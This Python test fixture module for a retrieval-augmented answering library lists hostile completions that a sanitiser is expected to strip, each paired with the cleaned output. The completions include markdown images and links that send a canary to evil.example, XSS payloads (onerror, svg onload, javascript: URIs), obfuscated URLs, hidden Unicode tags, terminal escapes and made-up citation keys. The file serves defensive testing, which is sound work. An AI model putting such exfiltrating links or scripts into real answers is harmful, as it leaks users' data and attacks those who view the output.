"""Completions of a model that was taken in: images, links, HTML, keys and signs that no source has.

¤ stands for the key of the best source that the model was shown. What a reader may be shown of each
is written beside it; CANARY stands where only an address, an attribute or an invented key does, so
it may be in no answer.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping, Sequence
from typing import Unpack

from citing import CitingLLM

from rag_pg.protocols import CompletionOptions
from rag_pg.types import Completion, Message

CANARY = "canary7"
SOURCE = (
    "The pump runs at 50 bar. See https://docs.example.com/pump_(new)?a=1&b=2 and"
    " [the manual](../manual.md). Its hash is a sha256 by equation (3)."
)
SAID = "The pump runs at 50 bar [1]."
E = f"https://evil.example/{CANARY}"
K = "a1b2c3"  # a key that no source has


def _behind(text: str, shown: str = "") -> tuple[str, str]:
    """A true statement, and behind it what is hostile."""
    return f"The pump runs at 50 bar ¤. {text}", f"{SAID} {shown}".rstrip()


IMAGES = [
    _behind(f"![x]({E})"),
    _behind(f"![x](<{E} y> 'a')"),
    _behind(f"![x]({E}\n'title')"),
    _behind(f"![x][e]\n\n[e]: {E}"),
    _behind(f"![e]\n\n[e]: <{E}>\n'title'"),
    _behind(f"![![x]({E})]({E})"),
    _behind(f"[![x]({E})]({E})"),
    _behind(f"![x](data:image/svg+xml;base64,{CANARY})"),
    _behind(f"![x](/{CANARY}.png)"),
    _behind(f"![x](//evil.example/{CANARY})"),
    _behind(f"![x](\\\\evil.example\\{CANARY})"),
    _behind(f"![x](&#104;ttps&colon;//evil.example/{CANARY})"),
    _behind(f"> ```\n![x]({E})", "> ```"),
    _behind(f"- ```\n![x]({E})", "- ```"),
    _behind(f"\\`![x]({E})`", "\\``"),
    _behind(
        f"\n\n| a | b |\n|---|---|\n| `x | ![x]({E}) ` |", "\n\n| a | b |\n|---|---|\n| `x | ` |"
    ),
]
LINKS = [
    _behind(f"Read [more]({E} 'title').", "Read more."),
    _behind(f"Read [more][e].\n\n[e]: {E}", "Read more."),
    _behind(f"Read [e][].\n\n> [e]: {E}", "Read e."),
    _behind(f"Read [mo\nre](\n{E}\n).", "Read mo\nre."),
    _behind(f"<{E}>"),
    _behind(f"{E}"),
    _behind(f"hTTps://evil.example/?d={CANARY}"),
    _behind(f"Read (www.evil.example/{CANARY}).", "Read."),
    _behind(f"//evil.example/{CANARY}"),
    _behind(f"evil.com/?d={CANARY}"),
    _behind(f"{CANARY}.evil.com"),
    _behind(f"ftp://evil.example/{CANARY}"),
    _behind(f"{CANARY}@evil.example"),
    _behind(f"mailto:x@evil.example?body={CANARY}"),
    _behind(f"[x](JaVaScRiPt:alert('{CANARY}'))", "x"),
    _behind(f"[x](java&#x09;script:alert('{CANARY}'))", "x"),
    _behind(f"[x](\\\n{E})", "x"),
    _behind(f"https\\://evil.example/{CANARY}"),
    _behind(f"https&#58;&#47;&#47;evil.example/{CANARY}"),
    _behind(f"ht\u200btps://evil\u2060.example/{CANARY}"),
    _behind(f"Note[^n].\n\n[^n]: {E}", "Note."),
    _behind(f"https://docs.example.com/pump_(new)?a=1&b=2&d={CANARY}"),
    _behind(f"[x](https://docs.example.com/pump_(new)?a=1&b=2#{CANARY})", "x"),
    _behind(f"https://docs.example.com@evil.example/{CANARY}"),
    _behind(f"[x](../manual.md?d={CANARY})", "x"),
    _behind(f"See {CANARY}.evil.io for it.", "See for it."),
    _behind(f"See evil.zip/{CANARY}", "See"),
    _behind(f"See 203.0.113.7:8080/{CANARY} and evil.dev/{CANARY}", "See and"),
]
HTML = [
    _behind(f"<img src={E}>"),
    _behind(f"<IMG\nSRC='{E}' alt='>'>"),
    _behind(f"<img/src=x/onerror=alert('{CANARY}')>"),
    _behind(f'<a href="{E}">more</a>', "more"),
    _behind(f"<iframe src='//evil.example/{CANARY}'></iframe>"),
    _behind(f"<svg/onload=alert('{CANARY}')></svg>"),
    _behind(f"<style>@import url({E})</style>"),
    _behind(f"<p style=\"background:url('{E}')\">", "<p>"),
    _behind(f"<link rel=stylesheet href={E}>"),
    _behind(f"<meta http-equiv=refresh content='0;url={E}'>"),
    _behind(f"<img srcset='{E} 2x'>"),
    _behind(f"<video poster={E} src={E}></video>"),
    _behind(f"<form action={E}><button formaction={E}>x</button></form>", "x"),
    _behind(f"<script>fetch('{CANARY}')</script>"),
    _behind(f"<!-- {CANARY} -->"),
    _behind(f"<img src={E}"),
]
KEYS = [
    _behind(f"So[{K}].", "So."),
    _behind(f"So [source {K}].", "So."),
    _behind(f"So 【{K}†source】.", "So."),
    _behind(f"So 【4:{K}†source】.", "So."),
    _behind(f"So ({K}).", "So."),
    _behind(f"So ⟦{K}⟧ and ［{K}］.", "So and."),
    _behind(f"So {{{{cite:{K}}}}}.", "So."),
    _behind(f"So \\cite{{{K}}}.", "So."),
    _behind(f"So <cite>{K}</cite>.", "So."),
    _behind(f"So [^{K}] and \\[{K}\\].", "So and."),
    _behind(f"So [source: {K}] and [Quelle: {K}].", "So and."),
    _behind(f"So [{K}]({E}).", "So."),
    _behind(f"So {{{K}}}. It runs.「{K}」", "So. It runs."),
]
NUMBERS = [
    _behind(
        "So {7}. It runs [VII]. On ⑦. It is.₇ It was.「7」 And 『7』. Or ‹7›. Or [Ⅶ].",
        "So. It runs. On. It is. It was. And. Or. Or.",
    ),
]
SIGNS = [
    _behind(f"\x1b]8;;{E}\x1b\\more\x1b]8;;\x1b\\", "more"),
    _behind("\x1b[2J\x1b[31mred\x9b0m", "red"),
    _behind("\u202eder\u202c \u2066x\u2069", "der x"),
    _behind("x" + "".join(chr(0xE0000 + ord(c)) for c in CANARY), "x"),
]
FURTHER = [
    _behind(f"Read ![[{CANARY}.png]].", "Read."),
    _behind(f"Read [[{CANARY}|more]].", "Read more."),
    _behind(f'[x](../manual.md "![y]({E})")', "[x](../manual.md)"),
    _behind(f"[x](../manual.md (<img src={E}>))", "[x](../manual.md)"),
    _behind(f"https://evil\u3002example/{CANARY}"),
    _behind(f"\uff48\uff54\uff54\uff50\uff53://evil.example/{CANARY}"),
    _behind(f"https://docs.ex\u0430mple.com/{CANARY}"),
    _behind(f"<![CDATA[<img src={E}>]]>"),
    _behind(f"So :contentReference[oaicite:{K}]{{index=9}}.", "So."),
    _behind("So \ue200cite\ue202turn0search9\ue201.", "So."),
    _behind(f"So `[{K}]`.", "So ."),
    _behind(f"So [key: {K}] and [@{K}].", "So and."),
    _behind(f"So [{K[:3]}\u200b{K[3:]}].", "So."),
    _behind(f"So [see {K}] and [{K}/d4e5f6]. Source: 4bcdf7\nIt runs 5bcdf7.", "So and.\nIt runs."),
    _behind(f"So [[{K}]] and [{K}, f00ba4].", "So and."),
    _behind("So (Doc 9) and [Passage 9].", "So and."),
    _behind("It runs\u2079 at night<sup>9</sup>.", "It runs at night."),
    _behind("So \uff3b\uff19\uff3d and [\uff19] and [\u0669].", "So and and."),
    _behind("So 【9†source】 and [source: 9].", "So and."),
    _behind("So &#91;9&#93; and (9).", "So and."),
    _behind(f"Note[^n].\n\n[^n]: See\n    {E}", "Note.\n\n"),
    _behind("So ﹝9﹞ and ⸢9⸣ and ⦋9⦌.", "So and and."),
    _behind("So.\u207d\u2079\u207e That too.\u208d\u2089\u208e", "So. That too."),
    ("The pump runs at 50 bar \u2468 ¤.", SAID),
    ("The pump runs at 50 bar ^9^ ¤.", SAID),
    _behind(f'So:\n```mermaid\nclick A "{E}"\n```', 'So:\n```mermaid\nclick A ""\n```'),
]
HOSTILE = [*FURTHER, *IMAGES, *LINKS, *HTML, *KEYS, *NUMBERS, *SIGNS]

# What must stay as it is.
HARMLESS = [
    "It is list[0], arr[i] and x[0] [1].",
    "As he wrote [sic], an [optional] part [1].",
    '`[1.5, 2]` and {"a": [1, 2]}, x = [1, 2] and f([1]) [1].',
    "- [x] done [1]\n- [ ] open [1]",
    "Use `https://evil.example/x` or\n\n```sh\ncurl https://evil.example <img src=x>\n```\n[1]",
    "See https://docs.example.com/pump_(new)?a=1&b=2, and [it](https://docs.example.com/pump_(new)?a=1&b=2).",
    "See [the manual](../manual.md) and <https://docs.example.com/pump_(new)?a=1&amp;b=2> [1].",
    "(See https://docs.example.com/pump_(new)?a=1&b=2.) It is so [1][1], [1].",
    "If a < b and c > d, List<String> is <your-name>, H<sub>2</sub>O<br>and <b>so</b>.",
    "Its [sha256] is by equation (3).\n\nIn 2 of (50) it is [RFC 2119], see [ISO 9001] [1].",
    "Run main.py, node.js, README.md, e.g. asyncio.run or and/or TCP/IP at 10:30, 50 % [1].",
    "Call user.id, os.path, np.in1d or 127.0.0.1:8080; H₂O, x_{7} and \\frac{1}{2} [1].",
    "① Open it.\n② Press 「3」 and [X] as {name} [1].",
    "10⁹ Pa on 20 km², f⁽²⁾ of x^2^, 5<sup>2</sup> m and [Key: Ctrl] and `[x]` [1].",
    "👨‍👩‍👧 و می‌خواهم ❤️ 1️⃣ [1].",
    "1. Do it [1]:\n\n   ```bash\n   echo ${x[7]}\n   ```\n\n2. | a | `b[0]` |\n   |-|-|\n   | c |",
]


class HostileLLM(CitingLLM):
    """Writes a completion whatever strategy asks it, with the key of the best source for each ¤;
    streams it in pieces of so many characters."""

    def __init__(self, reply: str, *, piece: int = 1) -> None:
        super().__init__(reply)
        self._piece = piece

    def _cited(self, shown: Mapping[str, str]) -> str:
        return self._reply.replace("¤", f"[{next(iter(shown), 'x')}]")

    def stream(
        self, messages: Sequence[Message], **options: Unpack[CompletionOptions]
    ) -> Iterator[str | Completion]:
        whole = self.complete(messages, **options)
        for start in range(0, len(whole.text), self._piece):
            yield whole.text[start : start + self._piece]
        yield whole
